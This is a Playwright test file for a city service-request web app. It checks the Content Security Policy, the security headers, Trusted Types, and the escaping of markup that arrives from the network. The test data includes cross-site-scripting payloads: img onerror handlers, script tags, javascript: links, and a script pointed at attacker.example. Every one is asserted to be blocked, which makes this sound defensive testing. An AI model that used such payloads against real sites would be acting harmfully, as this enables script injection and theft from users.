// The locked-down page (issue 14): the Content Security Policy as a header and as a meta tag,
// Trusted Types refusing markup that could run a script, the security headers on every route,
// and text from the network that never becomes markup. Every other spec fails on any policy
// violation too (support.ts, scanEveryPageTestEndsOn), so the whole resident journey is walked
// under the policy.
import { test, expect } from '@playwright/test';
import { appReady, allowViolations, scanEveryPageTestEndsOn } from './support';

scanEveryPageTestEndsOn();

const SERVICES = '**/open311/v2/services.json*';

test('the page carries one policy, as a header and as a meta tag (less frame-ancestors)', async ({ request }) => {
  for (const path of ['/', '/services/RD-POTHOLE/request/details', '/requests/12345', '/requests']) {
    const response = await request.get(path);
    const header = response.headers()['content-security-policy'];
    expect(header, path).toContain("default-src 'none'");
    expect(header).toMatch(/script-src 'self' 'wasm-unsafe-eval'( 'sha256-[A-Za-z0-9+/=]+')+;/);
    expect(header).toMatch(/style-src 'self'( 'sha256-[A-Za-z0-9+/=]+')+;/);
    expect(header).toContain("frame-ancestors 'none'");
    expect(header).toContain("base-uri 'none'");
    expect(header).toContain("form-action 'self'");
    expect(header).toContain("require-trusted-types-for 'script'; trusted-types default");
    for (const never of ["'unsafe-inline'", "'unsafe-eval'", 'data:', ' * ', ' https: ']) expect(header).not.toContain(never);
    const html = await response.text();
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html);
    expect(meta, 'index.html has the meta policy').not.toBeNull();
    expect(meta![1]).toBe(header.replace(" frame-ancestors 'none';", ''));
    // The meta tag comes before every script it governs.
    expect(html.indexOf('http-equiv="Content-Security-Policy"')).toBeLessThan(html.indexOf('<script'));
    expect(response.headers()['permissions-policy']).toContain('geolocation=(self)');
    expect(response.headers()['permissions-policy']).toContain('camera=(self)');
    expect(response.headers()['permissions-policy']).toContain('microphone=()');
    expect(response.headers()['cross-origin-opener-policy']).toBe('same-origin');
  }
  for (const path of ['/', '/config.json', '/catalogue.json', '/locales/en/main.ftl', '/open311/v2/services.json', '/sw.js']) {
    const response = await request.get(path);
    expect(response.headers()['x-content-type-options'], path).toBe('nosniff');
    expect(response.headers()['referrer-policy'], path).toBe('same-origin');
  }
});

test('Trusted Types: the app’s own markup passes, markup that could run a script never does', async ({ page }) => {
  const violations = allowViolations(page);
  await page.goto('/');
  await appReady(page);
  const outcome = await page.evaluate(() => {
    const box = document.createElement('div');
    const set = (markup: string) => {
      try {
        box.innerHTML = markup;
        return box.innerHTML === '' ? 'empty' : 'markup';
      } catch {
        return 'refused';
      }
    };
    const run = (code: () => unknown) => {
      try {
        code();
        return 'ran';
      } catch {
        return 'refused';
      }
    };
    return {
      own: set('<p class="notice"><strong>Done</strong> <a href="/my-requests">My requests</a></p>'),
      onerror: set('<img src=x onerror="window.pwned=1">'),
      script: set('<script>window.pwned=1</scr' + 'ipt>'),
      javascript: set('<a href="javascript:window.pwned=1">x</a>'),
      svg: set('<svg><a xlink:href="javascript:window.pwned=1"><text>x</text></a></svg>'),
      scriptUrl: run(() => {
        const s = document.createElement('script');
        s.src = 'https://attacker.example/x.js';
        document.head.append(s);
      }),
      pwned: (window as any).pwned ?? null,
    };
  });
  expect(outcome).toEqual({
    own: 'markup', onerror: 'refused', script: 'refused', javascript: 'refused', svg: 'refused',
    scriptUrl: 'refused', pwned: null,
  });
  // Each refusal was reported as a violation (what a report endpoint would receive).
  await expect.poll(() => violations.length).toBeGreaterThanOrEqual(5);
});

test('network text carrying markup is shown as text and never runs, in English and Arabic', async ({ page }) => {
  const hostile = '<img src=x onerror="window.pwned=1">Pothole <b>now</b>';
  await page.route(SERVICES, async (route) => {
    const response = await route.fetch();
    const list = await response.json();
    // A service no translation names, so the city's own text is what shows.
    list.push({ ...list[0], service_code: 'XSS-1', service_name: hostile, description: '<script>window.pwned=1</script>A description', keywords: '', group: '' });
    await route.fulfill({ response, json: list });
  });
  for (const lang of ['en', 'ar']) {
    await page.goto(`/?lang=${lang}`);
    await appReady(page);
    await expect(page.getByRole('link', { name: hostile }).first()).toBeVisible();
    expect(await page.locator('main img').count()).toBe(0);
    expect(await page.locator('main b').count()).toBe(0);
    expect(await page.evaluate(() => (window as any).pwned ?? null)).toBeNull();
    // Its own page: the name is the heading, the description a paragraph, both as text.
    await page.getByRole('link', { name: hostile }).first().click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(hostile);
    await expect(page.getByText('<script>window.pwned=1</script>A description')).toBeVisible();
    expect(await page.locator('main script, main img, main b').count()).toBe(0);
    expect(await page.evaluate(() => (window as any).pwned ?? null)).toBeNull();
  }
});
